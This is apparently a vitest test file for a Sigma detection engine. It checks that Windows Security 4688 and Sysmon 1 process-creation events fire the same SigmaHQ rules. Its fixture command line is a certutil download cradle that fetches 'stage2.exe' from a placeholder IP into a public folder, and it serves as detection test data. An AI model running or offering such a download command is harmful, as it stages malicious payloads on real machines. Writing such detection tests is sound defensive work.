/**
 * Security 4688 must fire the same SigmaHQ process_creation rules as Sysmon 1 for the same
 * process (windows-logsource.ts adds Image/ParentImage/User/ProcessId to 4688), and a 4688
 * without ParentProcessName (event version 1, before Windows 10) has no ParentImage at all.
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/events/event.js';
import { RuleIndex, loadRules, loadRulesFromText } from '../../../src/sigma/index.js';
import { eventFromXml } from '../../../src/sources/event-xml.js';
import { requireShared } from '../../helpers/cli.js';

const NS = "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'";
const CMDLINE = 'certutil.exe -urlcache -split -f http://203.0.113.7/stage2.exe C:\\Users\\Public\\stage2.exe';
const SYSMON1 = `<Event ${NS}><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2026-11-27T09:20:11.4020012Z'/><EventRecordID>48240</EventRecordID><Correlation/><Execution ProcessID='3120' ThreadID='4408'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>DEV-WS-042.corp.example.com</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2026-11-27 09:20:11.401</Data><Data Name='ProcessGuid'>{5f1c2a10-4c1b-6747-2e01-000000001a00}</Data><Data Name='ProcessId'>7312</Data><Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='CommandLine'>${CMDLINE}</Data><Data Name='CurrentDirectory'>C:\\src\\app\\</Data><Data Name='User'>CORP\\alice</Data><Data Name='IntegrityLevel'>Medium</Data><Data Name='ParentProcessGuid'>{5f1c2a10-4c1a-6747-2d01-000000001a00}</Data><Data Name='ParentProcessId'>6976</Data><Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>C:\\WINDOWS\\system32\\cmd.exe /d /s /c "${CMDLINE}"</Data></EventData></Event>`;
const security4688 = (version: number, parent: boolean) =>
  `<Event ${NS}><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>4688</EventID><Version>${version}</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-11-27T09:20:11.4013301Z'/><EventRecordID>912733</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='8712'/><Channel>Security</Channel><Computer>DEV-WS-042.corp.example.com</Computer><Security/></System><EventData><Data Name='SubjectUserSid'>S-1-5-21-3623811015-3361044348-30300820-1013</Data><Data Name='SubjectUserName'>alice</Data><Data Name='SubjectDomainName'>CORP</Data><Data Name='SubjectLogonId'>0x2f4a1c</Data><Data Name='NewProcessId'>0x1c90</Data><Data Name='NewProcessName'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='TokenElevationType'>%%1938</Data><Data Name='ProcessId'>0x1b40</Data><Data Name='CommandLine'>${CMDLINE}</Data>${
    parent ? "<Data Name='TargetUserSid'>S-1-0-0</Data><Data Name='TargetUserName'>-</Data><Data Name='TargetDomainName'>-</Data><Data Name='TargetLogonId'>0x0</Data><Data Name='ParentProcessName'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='MandatoryLabel'>S-1-16-8192</Data>" : ''
  }</EventData></Event>`;

function event(xml: string): NormalizedEvent {
  const e = eventFromXml(xml, { file: 'inline', format: 'windows-xml' });
  if (typeof e === 'string') throw new Error(e);
  return e;
}

describe('Security 4688 and Sysmon 1 fire the same SigmaHQ process_creation rules', () => {
  it('for the same certutil download, with and without ParentProcessName', async () => {
    const { rules } = await loadRules([requireShared('sigmahq/rules/windows/process_creation')]);
    const index = new RuleIndex(rules);
    const titles = (e: NormalizedEvent) => index.match(e).map((r) => r.title).sort();
    const sysmon = event(SYSMON1);
    const v2 = event(security4688(2, true));
    const v1 = event(security4688(1, false));
    expect(v2).toMatchObject({ category: 'process_creation', service: 'security', user: 'CORP\\alice' });
    expect(v2.fields).toMatchObject({ Image: 'C:\\Windows\\System32\\certutil.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ProcessId: '0x1c90', ParentProcessId: '0x1b40' });
    expect(v1.fields).not.toHaveProperty('ParentImage');
    const expected = titles(sysmon);
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.some((t) => /certutil/i.test(t))).toBe(true);
    // The one difference: 'LOLBIN Execution From Abnormal Drive' filters on CurrentDirectory
    // ('C:\\', '' or null), a field 4688 does not carry; the engine's `null` matches only a present
    // null (src/sigma/README.md), so on 4688 the filter cannot apply and the rule fires. Every rule
    // that reads only Image/CommandLine/ParentImage/User fires alike.
    const needsCurrentDirectory = 'LOLBIN Execution From Abnormal Drive';
    expect(expected).not.toContain(needsCurrentDirectory);
    expect(titles(v2)).toEqual([...expected, needsCurrentDirectory].sort());
    expect(titles(v1)).toEqual(titles(v2));
  });

  it('an absent ParentImage is not empty: a rule on ParentImage "" or a parent pattern does not fire on old 4688', () => {
    const { rules, rejected } = loadRulesFromText(
      ["ParentImage: ''", "ParentImage|endswith: '\\cmd.exe'"].map((sel, i) =>
        `title: parent ${i}\nid: 6b1c0e6e-1e0a-4b7a-9a44-00000000000${i}\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  sel:\n    ${sel}\n  condition: sel\n`,
      ).join('---\n'),
      'inline.yml',
    );
    expect(rejected).toEqual([]);
    const index = new RuleIndex(rules);
    expect(index.match(event(security4688(1, false)))).toEqual([]);
    expect(index.match(event(security4688(2, true))).map((r) => r.title)).toEqual(['parent 1']);
  });
});
